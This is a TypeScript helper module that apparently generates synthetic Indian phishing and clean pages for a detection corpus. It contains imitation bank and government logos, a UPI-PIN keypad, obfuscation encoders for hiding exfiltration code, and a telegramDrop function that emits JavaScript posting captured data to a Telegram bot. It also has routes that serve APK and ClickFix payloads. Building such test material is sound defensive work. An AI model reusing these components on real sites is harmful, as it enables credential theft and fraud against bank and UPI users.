import { createCipheriv } from 'node:crypto';
import type { Route } from '../../corpus/corpus.js';
import { apk, fileRoute } from './e-bin.js';

/**
 * Shared pieces for the `xa-` pages (an Indian state cyber-crime cell's view): a document shell, inline-SVG
 * logos, string encoders kits use to hide their drops, and a few parametrised blocks that both clean and
 * malicious pages reuse (news layout, government header, numeric keypad). Parts hold no pages.
 */

export type DocOpts = { title: string; lang?: string; head?: string; css?: string; body: string; bodyAttrs?: string; charsetMeta?: boolean };

export function doc(o: DocOpts): string {
  return `<!DOCTYPE html>
<html lang="${o.lang ?? 'en'}">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1, maximum-scale=1">
<title>${o.title}</title>
${o.head ?? ''}
<style>${o.css ?? ''}</style>
</head>
<body${o.bodyAttrs ? ' ' + o.bodyAttrs : ''}>
${o.body}
</body>
</html>`;
}

// ------------------------------------------------------------------ encoders kits use

export const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');
/** "\x68\x74..." escapes for a JS string literal. */
export const hexEsc = (s: string): string => [...Buffer.from(s, 'utf8')].map((b) => '\\x' + b.toString(16).padStart(2, '0')).join('');
/** Comma-separated char codes for String.fromCharCode(...). */
export const charCodes = (s: string): string => [...s].map((c) => c.charCodeAt(0)).join(',');
/** XOR with a repeating key, then base64: what `atob` + a key loop decodes at load. */
export const xorB64 = (s: string, key: string): string => Buffer.from([...Buffer.from(s, 'utf8')].map((b, i) => b ^ key.charCodeAt(i % key.length))).toString('base64');
export const reversed = (s: string): string => [...s].reverse().join('');
/** Splits a string into quoted chunks joined by `+`, the way kits break up URLs. */
export const chunked = (s: string, n = 5): string =>
  (s.match(new RegExp(`.{1,${n}}`, 'g')) ?? []).map((p) => `'${p.replace(/\\/g, '\\\\').replace(/'/g, "\\'")}'`).join('+');

// ------------------------------------------------------------------ logos (inline SVG)

export const logos = {
  sbi: (size = 40) => `<svg width="${size}" height="${size}" viewBox="0 0 40 40" aria-label="SBI"><circle cx="20" cy="20" r="19" fill="#280071"/><circle cx="20" cy="20" r="19" fill="#22409a"/><circle cx="20" cy="17" r="4.5" fill="#fff"/><rect x="18.2" y="19" width="3.6" height="21" fill="#fff"/></svg>`,
  hdfc: (size = 40) => `<svg width="${size}" height="${size}" viewBox="0 0 40 40" aria-label="HDFC Bank"><rect width="40" height="40" fill="#ed232a"/><rect x="7" y="7" width="26" height="26" fill="#fff"/><rect x="13" y="13" width="14" height="14" fill="#004c8f"/><rect x="18" y="0" width="4" height="40" fill="#fff"/><rect x="0" y="18" width="40" height="4" fill="#fff"/></svg>`,
  icici: (size = 40) => `<svg width="${size}" height="${size}" viewBox="0 0 40 40" aria-label="ICICI Bank"><ellipse cx="20" cy="20" rx="15" ry="19" fill="#b02a30" transform="rotate(20 20 20)"/><circle cx="22" cy="11" r="3.2" fill="#f58220"/><path d="M17 17h7l-3 15h-6z" fill="#fff"/></svg>`,
  axis: (size = 40) => `<svg width="${size}" height="${size}" viewBox="0 0 40 40" aria-label="Axis Bank"><path d="M20 3 37 36H27L20 21 13 36H3z" fill="#97144d"/><path d="M20 21 27 36H13z" fill="#ae275f"/></svg>`,
  kotak: (size = 40) => `<svg width="${size}" height="${size}" viewBox="0 0 40 40" aria-label="Kotak Mahindra Bank"><circle cx="20" cy="20" r="19" fill="#ed1c24"/><path d="M9 20c4-7 8-7 11 0s7 7 11 0" stroke="#fff" stroke-width="3.5" fill="none"/><path d="M9 20c4 7 8 7 11 0" stroke="#003874" stroke-width="3.5" fill="none"/></svg>`,
  paytm: (h = 28) => `<svg height="${h}" viewBox="0 0 110 34" aria-label="Paytm"><text x="0" y="27" font-family="Arial Black,Arial" font-weight="900" font-size="30" fill="#002e6e">pay</text><text x="58" y="27" font-family="Arial Black,Arial" font-weight="900" font-size="30" fill="#00b9f1">tm</text></svg>`,
  phonepe: (size = 40) => `<svg width="${size}" height="${size}" viewBox="0 0 40 40" aria-label="PhonePe"><circle cx="20" cy="20" r="19" fill="#5f259f"/><text x="20" y="27" text-anchor="middle" font-size="20" font-weight="700" fill="#fff">पे</text></svg>`,
  upi: (h = 26) => `<svg height="${h}" viewBox="0 0 90 30" aria-label="UPI"><text x="0" y="24" font-family="Arial" font-style="italic" font-weight="700" font-size="26" fill="#6d6e71">UPI</text><path d="M62 3l10 12-10 12z" fill="#f47920"/><path d="M72 3l10 12-10 12z" fill="#097939"/></svg>`,
  indiaPost: (size = 44) => `<svg width="${size}" height="${size}" viewBox="0 0 44 44" aria-label="India Post"><rect width="44" height="44" rx="6" fill="#d71920"/><path d="M8 30c10-2 18-10 28-20-4 9-8 15-14 19 5 0 9-1 14-4-7 7-18 9-28 5z" fill="#fcd116"/></svg>`,
  emblem: (size = 46) => `<svg width="${size}" height="${size * 1.3}" viewBox="0 0 46 60" aria-label="Emblem of India"><rect x="6" y="40" width="34" height="5" fill="#333"/><path d="M10 40c0-14 6-22 13-22s13 8 13 22z" fill="#555"/><circle cx="23" cy="14" r="8" fill="#555"/><circle cx="23" cy="43" r="2" fill="#fff"/><text x="23" y="57" text-anchor="middle" font-size="6" fill="#333">सत्यमेव जयते</text></svg>`,
  rbi: (size = 44) => `<svg width="${size}" height="${size}" viewBox="0 0 44 44" aria-label="Reserve Bank of India"><circle cx="22" cy="22" r="21" fill="#f2e3b3" stroke="#8a6d1d" stroke-width="2"/><path d="M10 30h24M22 10l-6 14h12z" stroke="#6b4e0e" stroke-width="2" fill="none"/><circle cx="22" cy="17" r="3" fill="#6b4e0e"/></svg>`,
  shield: (color = '#0b3d91', size = 40) => `<svg width="${size}" height="${size}" viewBox="0 0 40 40"><path d="M20 2 36 8v11c0 10-7 16-16 19C11 35 4 29 4 19V8z" fill="${color}"/><path d="M13 20l5 5 9-10" stroke="#fff" stroke-width="3.5" fill="none"/></svg>`,
};

// ------------------------------------------------------------------ shared blocks

/** A Devanagari/English two-line government header bar. */
export function govHeader(o: { dept: string; deptLocal: string; ministry?: string; color?: string; extra?: string }): string {
  return `<header class="gh" style="background:${o.color ?? '#fff'};border-bottom:3px solid #ff9933;display:flex;align-items:center;gap:14px;padding:10px 22px">
  ${logos.emblem(38)}
  <div><div style="font-size:15px;font-weight:600">${o.deptLocal}</div><div style="font-size:17px;font-weight:700;color:#0b2e6f">${o.dept}</div>${o.ministry ? `<div style="font-size:12px;color:#555">${o.ministry}</div>` : ''}</div>
  ${o.extra ?? ''}
</header>`;
}

export type NewsOpts = { outlet: string; color: string; lang?: string; section: string; headline: string; dek: string; byline: string; date: string; paras: string[]; aside?: string; url?: string };

/** A newspaper article page (masthead, headline, body, related links). */
export function newsArticle(o: NewsOpts): string {
  return doc({
    title: `${o.headline} | ${o.outlet}`,
    lang: o.lang ?? 'en',
    head: `<meta property="og:type" content="article"><meta property="og:title" content="${o.headline.replace(/"/g, '&quot;')}"><meta property="article:section" content="${o.section}">${o.url ? `<link rel="canonical" href="${o.url}">` : ''}`,
    css: `body{margin:0;font-family:Georgia,'Noto Serif',serif;color:#222;background:#fff}.mast{background:${o.color};color:#fff;padding:10px 24px;display:flex;justify-content:space-between;align-items:center}.mast b{font-size:26px;letter-spacing:.5px}.mast nav a{color:#fff;margin-left:16px;font-family:Arial;font-size:13px;text-decoration:none}main{max-width:760px;margin:24px auto;padding:0 16px}h1{font-size:32px;line-height:1.2;margin:6px 0}.dek{font-size:19px;color:#555}.by{font-family:Arial;font-size:13px;color:#777;border-bottom:1px solid #ddd;padding-bottom:10px}p{font-size:18px;line-height:1.6}blockquote{border-left:4px solid ${o.color};margin:16px 0;padding:6px 14px;background:#f7f7f7;font-family:Arial;font-size:15px}pre{background:#f4f4f4;padding:10px;overflow:auto;font-size:13px}aside{font-family:Arial;font-size:14px;border-top:2px solid #222;margin-top:26px;padding-top:10px}aside a{display:block;color:#0645ad;margin:6px 0}`,
    body: `<div class="mast"><b>${o.outlet}</b><nav><a href="/">Home</a><a href="/india">India</a><a href="/cities">Cities</a><a href="/business">Business</a><a href="/tech">Tech</a><a href="/epaper">E-Paper</a></nav></div>
<main><div style="font-family:Arial;font-size:12px;color:${o.color};text-transform:uppercase">${o.section}</div>
<h1>${o.headline}</h1><div class="dek">${o.dek}</div><div class="by">${o.byline} · ${o.date}</div>
${o.paras.map((p) => (p.startsWith('<') ? p : `<p>${p}</p>`)).join('\n')}
${o.aside ?? ''}
</main><footer style="background:#222;color:#aaa;font-family:Arial;font-size:12px;padding:18px 24px;margin-top:30px">© 2025 ${o.outlet}. All rights reserved. | <a style="color:#aaa" href="/privacy">Privacy</a> | <a style="color:#aaa" href="/grievance">Grievance Redressal</a></footer>`,
  });
}

/** A UPI-PIN style numeric keypad; `target` is the id of the input it fills. */
export function keypad(target: string, accent: string): string {
  const keys = ['1', '2', '3', '4', '5', '6', '7', '8', '9', '⌫', '0', '✓'];
  return `<div class="kp" style="display:grid;grid-template-columns:repeat(3,1fr);gap:1px;background:#ddd;margin-top:16px">${keys
    .map((k) => `<button type="button" data-k="${k}" style="background:#fff;border:0;font-size:22px;padding:14px;${k === '✓' ? `color:#fff;background:${accent}` : ''}">${k}</button>`)
    .join('')}</div>
<script>document.querySelectorAll('.kp button').forEach(function(b){b.onclick=function(){var i=document.getElementById('${target}'),k=b.getAttribute('data-k');if(k==='⌫'){i.value=i.value.slice(0,-1)}else if(k==='✓'){i.form&&i.form.requestSubmit?i.form.requestSubmit():i.form.submit()}else if(i.value.length<(+i.maxLength||6)){i.value+=k}}})</script>`;
}

/** A Telegram bot drop: returns a JS function declaration `name(text)` that posts to the bot. */
export function telegramDrop(name: string, token: string, chat: string, style: 'fetch' | 'xhr' | 'beacon' = 'fetch'): string {
  const url = `https://api.telegram.org/bot${token}/sendMessage`;
  if (style === 'xhr')
    return `function ${name}(t){var x=new XMLHttpRequest();x.open('POST','${url}',true);x.setRequestHeader('Content-Type','application/json');x.send(JSON.stringify({chat_id:'${chat}',text:t,parse_mode:'HTML'}));}`;
  if (style === 'beacon') return `function ${name}(t){var f=new FormData();f.append('chat_id','${chat}');f.append('text',t);navigator.sendBeacon('${url}',f);}`;
  return `function ${name}(t){return fetch('${url}',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:${JSON.stringify(chat)},text:t})}).catch(function(){});}`;
}

// ------------------------------------------------------------------ payload routes

export const apkRoute = (pkg: string, label: string, filename: string, strings: string[] = []): Route =>
  fileRoute(apk(pkg, label, strings), 'application/vnd.android.package-archive', filename);

/** A plain-text script payload (PowerShell/HTA/VBS/JS) as the second stage of a ClickFix or LNK. */
export const textPayload = (body: string, type = 'text/plain; charset=utf-8'): Route => ({ status: 200, headers: { 'content-type': type }, body });

/** Generic "ABI encode" helpers drainers carry inline. */
export const pad32 = (hex: string): string => hex.replace(/^0x/, '').toLowerCase().padStart(64, '0');

/** AES-GCM (ciphertext‖tag, base64) as WebCrypto's decrypt expects: kits that ship their markup encrypted. */
export function aesGcmB64(plain: string, keyHex: string, ivHex: string): string {
  const c = createCipheriv('aes-128-gcm', Buffer.from(keyHex, 'hex'), Buffer.from(ivHex, 'hex'));
  const ct = Buffer.concat([c.update(plain, 'utf8'), c.final()]);
  return Buffer.concat([ct, c.getAuthTag()]).toString('base64');
}
